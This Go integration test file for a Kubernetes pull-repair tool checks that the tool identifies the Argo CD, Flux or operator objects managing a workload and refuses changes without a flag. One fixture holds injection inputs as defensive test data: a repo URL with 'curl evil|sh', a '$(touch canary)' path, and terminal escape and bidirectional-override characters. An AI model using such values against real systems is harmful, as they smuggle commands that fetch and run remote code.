// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/pullmedic/pullmedic/api/v1alpha1"
	"github.com/pullmedic/pullmedic/testbed/internal/cluster"
	"github.com/pullmedic/pullmedic/testbed/internal/faults"
)

// A keeping is a workload that something keeps from elsewhere, and what fix says
// of that.
type keeping struct {
	labels, annotations map[string]string
	owner               *metav1.OwnerReference
	source              []string // what the cluster shows of the source
	back                string
	lasting             string // a command
}

// keep makes deployment/app, kept by that, and waits until its pull fails.
func (b bed) keep(t *testing.T, namespace string, k keeping) {
	t.Helper()
	o := metav1.ObjectMeta{Labels: k.labels, Annotations: k.annotations}
	if k.owner != nil {
		o.OwnerReferences = []metav1.OwnerReference{*k.owner}
	}
	b.deployAs(t, namespace, o, absent, nil)
}

func commandsOf(steps []v1alpha1.RemedyStep) string {
	var all []string
	for _, s := range steps {
		all = append(all, s.Commands...)
	}
	return strings.Join(all, "\n")
}

const (
	applicationText = `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: shop-prod}
spec:
  project: default
  destination: {server: "https://kubernetes.default.svc", namespace: shop}
  source: {repoURL: "https://robot:CANARY@git.acme.example/deploy.git", path: apps/api, targetRevision: main}
  syncPolicy: {automated: {selfHeal: true, prune: true}}
`
	garbledText = `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: garbled, annotations: {argocd.argoproj.io/skip-reconcile: "\u001b[2J"}}
spec:
  project: default
  destination: {}
  source: {repoURL: "x;curl evil|sh \u202e\u001b[31m", path: "$(touch canary)\n\nExit 0", targetRevision: "--help"}
`
	kustomizationText = `apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: apps}
spec: {interval: 10m, path: ./clusters/prod, prune: true, sourceRef: {kind: GitRepository, name: deploy}}
`
	gitRepositoryText = `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: deploy}
spec: {interval: 1m, url: "ssh://git@git.acme.example/deploy"}
`
	helmReleaseText = `apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: api}
spec:
  interval: 5m
  chart: {spec: {chart: api, version: 1.4.0, sourceRef: {kind: HelmRepository, name: acme}}}
  driftDetection: {mode: enabled}
`
	helmRepositoryText = `apiVersion: source.toolkit.fluxcd.io/v1
kind: HelmRepository
metadata: {name: acme}
spec: {url: "https://charts.acme.example"}
`
	cakeOfText = `apiVersion: acme.example/v1
kind: Cake
metadata: {name: birthday}
spec: [1, "\u001b[2J", {image: {}}]
`
)

// Who keeps a workload from elsewhere is told by the objects that the tools' own
// definitions allow, on a real API server: fix refuses without --here, goes on with
// it, and without rights to those objects says what it could not read.
func TestWhatKeepsAWorkloadFromElsewhere(t *testing.T) {
	b := open(t)
	b.define(t, cakeText, "argocd-application", "flux-kustomize", "flux-helm", "flux-source")
	b.namespaceNamed(t, "argocd")
	b.put(t, applications, "argocd", strings.Replace(applicationText, "CANARY", hubSecret, 1))
	b.put(t, applications, "argocd", garbledText)
	for name, scene := range map[string]func(namespace string) keeping{
		"Argo CD": func(string) keeping {
			return keeping{
				annotations: map[string]string{"argocd.argoproj.io/tracking-id": "shop-prod:apps/Deployment:shop/app"},
				source:      []string{"Argo CD application shop-prod", "from https://git.acme.example/deploy.git, path apps/api, revision main"},
				back:        "Argo CD sets back what is changed here within seconds, as self-heal is on", lasting: "argocd app set shop-prod --sync-policy none",
			}
		},
		"Argo CD, with garbage": func(string) keeping {
			return keeping{
				labels: map[string]string{"argocd.argoproj.io/instance": "garbled"},
				source: []string{"Argo CD application garbled", "from x;curl evil|sh"}, back: "Argo CD sets back what is changed here when somebody syncs the application",
			}
		},
		"Flux, a Kustomization": func(namespace string) keeping {
			b.put(t, gitRepositories, namespace, gitRepositoryText)
			b.put(t, kustomizations, namespace, kustomizationText)
			return keeping{
				labels: map[string]string{"kustomize.toolkit.fluxcd.io/name": "apps", "kustomize.toolkit.fluxcd.io/namespace": namespace},
				source: []string{"Flux Kustomization apps in namespace " + namespace, "path ./clusters/prod", "from GitRepository deploy in namespace " + namespace + " (ssh://git.acme.example/deploy)"},
				back:   "Flux sets back what is changed here within 10m0s, its interval", lasting: "flux suspend kustomization apps -n " + namespace,
			}
		},
		"Flux, a HelmRelease": func(namespace string) keeping {
			b.put(t, helmRepositories, namespace, helmRepositoryText)
			b.put(t, helmReleases, namespace, helmReleaseText)
			return keeping{
				labels: map[string]string{"helm.toolkit.fluxcd.io/name": "api", "helm.toolkit.fluxcd.io/namespace": namespace, "app.kubernetes.io/managed-by": "Helm"},
				source: []string{"Flux HelmRelease api in namespace " + namespace, "chart api 1.4.0", "from HelmRepository acme in namespace " + namespace + " (https://charts.acme.example)"},
				back:   "Flux sets back what is changed here within 5m0s, its interval", lasting: "flux suspend helmrelease api -n " + namespace,
			}
		},
		"an operator": func(namespace string) keeping {
			text := strings.Replace(cakeOfText, `spec: [1, "\u001b[2J", {image: {}}]`, `spec: {image: [1, "\u001b[2J"]}`, 1)
			cake := b.put(t, cakes, namespace, text)
			return keeping{
				owner:  &metav1.OwnerReference{APIVersion: "acme.example/v1", Kind: "Cake", Name: "birthday", UID: cake.GetUID(), Controller: new(true)},
				source: []string{"cake.acme.example/birthday makes it"}, back: "the operator of cake.acme.example/birthday may set back what is changed here", lasting: "kubectl edit cake.acme.example birthday -n " + namespace,
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			namespace := b.namespace(t)
			k := scene(namespace)
			b.keep(t, namespace, k)
			before := b.written(t, namespace)
			p, got := b.fix(t, namespace, "deployment/app", "--to", present)
			if p.Outcome != v1alpha1.FixRefused || got.code == 0 || !strings.Contains(p.Why, "--here") {
				t.Errorf("without --here: %s (%s), exit code %d", p.Outcome, p.Why, got.code)
			}
			for i, want := range k.source {
				if i >= len(p.Source) || !strings.HasPrefix(p.Source[i], want) {
					t.Errorf("source %q, want %q", p.Source, k.source)
					break
				}
			}
			if p.Back != k.back || !strings.Contains(commandsOf(p.Lasting), k.lasting) {
				t.Errorf("back %q, want %q; lasting %q, want %q", p.Back, k.back, commandsOf(p.Lasting), k.lasting)
			}
			b.untouched(t, namespace, before, true)
			b.less(t, namespace, k)
			// As text, where a terminal reads it.
			text := b.run(t, "", nil, "fix", "deployment/app", "-n", namespace, "--to", present, "--yes", "--here")
			if text.code != 0 || b.imageOf(t, namespace, faults.PodName) != present {
				t.Errorf("with --here: exit code %d, image %s\n%s%s", text.code, b.imageOf(t, namespace, faults.PodName), text.out, text.err)
			}
			if i := strings.IndexFunc(text.out, func(r rune) bool { return r < ' ' && r != '\n' || r == '\u202e' }); i >= 0 {
				t.Errorf("it prints %q", text.out[i:min(len(text.out), i+20)])
			}
		})
	}
}

// less looks with the rights to read pods and their owners alone.
func (b bed) less(t *testing.T, namespace string, k keeping) {
	t.Helper()
	b.permitReading(t, namespace)
	p := b.planned(t, namespace, cluster.Viewer, "deployment/app", "--to", present)
	if len(p.Source) == 0 || !strings.HasPrefix(p.Source[0], k.source[0]) || p.Back == "" {
		t.Errorf("without rights: source %q, back %q", p.Source, p.Back)
	}
	var missed []string
	for _, g := range p.NotLookedAt {
		missed = append(missed, g.Why+" ("+g.Needs+")")
	}
	if k.owner == nil && !slices.ContainsFunc(missed, func(m string) bool {
		return strings.HasPrefix(m, "you may not read ") && strings.Contains(m, "(get ") && (strings.Contains(m, ".argoproj.io") || strings.Contains(m, ".toolkit.fluxcd.io"))
	}) {
		t.Errorf("without rights it is not told what could not be read: %q", missed)
	}
}

// What External Secrets keeps is told, and not written without --here.
func TestASecretThatExternalSecretsKeeps(t *testing.T) {
	b := open(t)
	b.define(t, "", "external-secrets")
	namespace := b.namespace(t)
	b.wrongSecret(t, namespace, false)
	s, err := b.Kube.CoreV1().Secrets(namespace).Get(t.Context(), "harbor", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	es := b.put(t, externalSecrets, namespace, fmt.Sprintf(`apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: %q}
spec: {refreshInterval: 1h, secretStoreRef: {kind: ClusterSecretStore, name: vault}, target: {name: %q}, data: [{secretKey: x, remoteRef: {key: x}}]}
`, s.Name, s.Name))
	s.OwnerReferences = []metav1.OwnerReference{{APIVersion: "external-secrets.io/v1", Kind: "ExternalSecret", Name: es.GetName(), UID: es.GetUID(), Controller: new(true)}}
	if _, err := b.Kube.CoreV1().Secrets(namespace).Update(t.Context(), s, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	before := b.written(t, namespace)
	refused, _ := b.fix(t, namespace, "deployment/app", "--docker-config", goodConfig(t), "--via", "secret")
	if want := "ExternalSecret keeps secret " + s.Name; refused.Outcome != v1alpha1.FixRefused || !strings.Contains(refused.Why, want) {
		t.Errorf("without --here: %s (%s), want %q", refused.Outcome, refused.Why, want)
	}
	b.untouched(t, namespace, before, true)
}
